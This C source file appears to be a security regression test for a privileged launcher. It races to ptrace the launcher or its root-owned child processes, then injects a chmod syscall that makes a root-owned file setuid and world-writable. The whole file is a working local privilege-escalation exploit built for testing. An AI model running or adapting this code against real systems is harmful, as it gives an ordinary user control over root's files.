/* ptrace-race LAUNCHER ID VICTIM TRIES: run as an ordinary user, starts
 * LAUNCHER ID -- true TRIES times and, while each runs, tries to trace
 * the launcher itself and every process started after it.  A traced
 * process whose effective uid is root (or the launcher, stopped while its
 * filesystem uid is root's) is made to chmod VICTIM (a root-owned file)
 * to 04777: what a user could then do to any file of root's.  Exits 0
 * when that worked (the launcher is exploitable), 1 when no try did, 2 on
 * a usage error.
 * x86-64 only (the syscall is injected at a syscall-entry stop).
 * SPDX-License-Identifier: LGPL-2.1-or-later */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

/* The effective (FIELD 1) or filesystem (FIELD 3) uid of PID, or -1. */
static int
uid_of (pid_t pid, int field)
{
  char path[64], line[256];
  int u[4] = { -1, -1, -1, -1 };
  FILE *f;
  snprintf (path, sizeof path, "/proc/%d/status", (int) pid);
  f = fopen (path, "r");
  if (f == NULL)
    return -1;
  while (fgets (line, sizeof line, f))
    if (sscanf (line, "Uid: %d %d %d %d", &u[0], &u[1], &u[2], &u[3]) == 4)
      break;
  fclose (f);
  return u[field];
}

static int
euid_of (pid_t pid)
{
  return uid_of (pid, 1);
}

/* The launcher being run: continued when the bound is reached (a stop
 * sent to it while it waits for a vfork child takes effect only later),
 * so that it does not stay stopped, holding its caller's output. */
static volatile pid_t launcher;

static void
on_alarm (int sig)
{
  (void) sig;
  if (launcher > 0)
    {
      ptrace (PTRACE_DETACH, launcher, 0, 0);
      kill (launcher, SIGCONT);
    }
  _exit (1);
}

#if defined(__x86_64__)
/* PID is traced and stopped: at its next syscall entry, make that
 * syscall chmod (VICTIM, 04777).  True when it returned 0. */
static bool
inject_chmod (pid_t pid, const char *victim)
{
  struct user_regs_struct regs;
  int st;
  unsigned long addr;
  size_t len = strlen (victim) + 1;

  /* (traced inside a syscall, the first stop is its exit) */
  for (int i = 0;; i++)
    {
      if (i == 4 || ptrace (PTRACE_SYSCALL, pid, 0, 0) != 0 || waitpid (pid, &st, __WALL) != pid
          || !WIFSTOPPED (st) || ptrace (PTRACE_GETREGS, pid, 0, &regs) != 0)
        return false;
      if ((long) regs.rax == -ENOSYS)
        break;
    }
  addr = (regs.rsp - 4096) & ~7UL;
  for (size_t off = 0; off < len; off += sizeof (long))
    {
      long word = 0;
      memcpy (&word, victim + off, len - off < sizeof word ? len - off : sizeof word);
      if (ptrace (PTRACE_POKEDATA, pid, addr + off, word) != 0)
        return false;
    }
  regs.orig_rax = SYS_chmod;
  regs.rdi = addr;
  regs.rsi = 04777;
  if (ptrace (PTRACE_SETREGS, pid, 0, &regs) != 0 || ptrace (PTRACE_SYSCALL, pid, 0, 0) != 0
      || waitpid (pid, &st, __WALL) != pid || ptrace (PTRACE_GETREGS, pid, 0, &regs) != 0)
    return false;
  return regs.rax == 0;
}
#endif

int
main (int argc, char **argv)
{
  int tries;
  if (argc != 5 || (tries = atoi (argv[4])) <= 0)
    {
      fprintf (stderr, "usage: ptrace-race LAUNCHER ID VICTIM TRIES\n");
      return 2;
    }
#if !defined(__x86_64__)
  fprintf (stderr, "ptrace-race: x86-64 only\n");
  return 77;
#else
  int traced_root = 0;
  signal (SIGALRM, on_alarm);
  alarm (40);   /* a bound, whatever happens (twice within the test's 120 s) */
  for (int t = 0; t < tries; t++)
    {
      pid_t l = fork ();
      int st;
      if (l == 0)
        {
          int null = open ("/dev/null", O_RDWR);
          dup2 (null, 1);
          execl (argv[1], argv[1], argv[2], "--", "true", (char *) NULL);
          _exit (127);
        }
      launcher = l;
      for (bool ended = false; !ended;)
        {
          /* The launcher itself (it has your real uid: you may stop it),
           * stopped at each return from the kernel in turn and traced
           * when its filesystem uid is root's (its euid is yours then). */
          for (int i = 0; i < 4000; i++)
            {
              if (kill (l, SIGSTOP) != 0 || waitpid (l, &st, WUNTRACED) != l || !WIFSTOPPED (st))
                {
                  ended = true;
                  break;
                }
              if (uid_of (l, 3) == 0 && ptrace (PTRACE_ATTACH, l, 0, 0) == 0)
                {
                  if (waitpid (l, &st, __WALL) == l && WIFSTOPPED (st))
                    {
                      traced_root++;
                      if (inject_chmod (l, argv[3]))
                        {
                          printf ("traced the launcher (pid %d) with fsuid 0 and made it chmod "
                                  "%s\n", (int) l, argv[3]);
                          kill (l, SIGKILL);
                          waitpid (l, &st, 0);
                          return 0;
                        }
                    }
                  ptrace (PTRACE_DETACH, l, 0, 0);
                }
              kill (l, SIGCONT);
            }
          if (ended)
            break;
          for (pid_t p = l + 1; p < l + 12; p++)
            {
              /* only processes of root's: the app is not stopped */
              if (euid_of (p) != 0 || ptrace (PTRACE_ATTACH, p, 0, 0) != 0)
                continue;
              if (waitpid (p, &st, __WALL) == p && euid_of (p) == 0)
                {
                  traced_root++;
                  if (inject_chmod (p, argv[3]))
                    {
                      printf ("traced pid %d with euid 0 and made it chmod %s\n", (int) p, argv[3]);
                      ptrace (PTRACE_DETACH, p, 0, 0);
                      kill (l, SIGKILL);
                      waitpid (l, &st, 0);
                      return 0;
                    }
                }
              ptrace (PTRACE_DETACH, p, 0, 0);
            }
          if (waitpid (l, &st, WNOHANG) == l)
            break;
        }
    }
  printf ("no process with root ids could be made to chmod in %d tries (%d traced)\n", tries,
          traced_root);
  return 1;
#endif
}
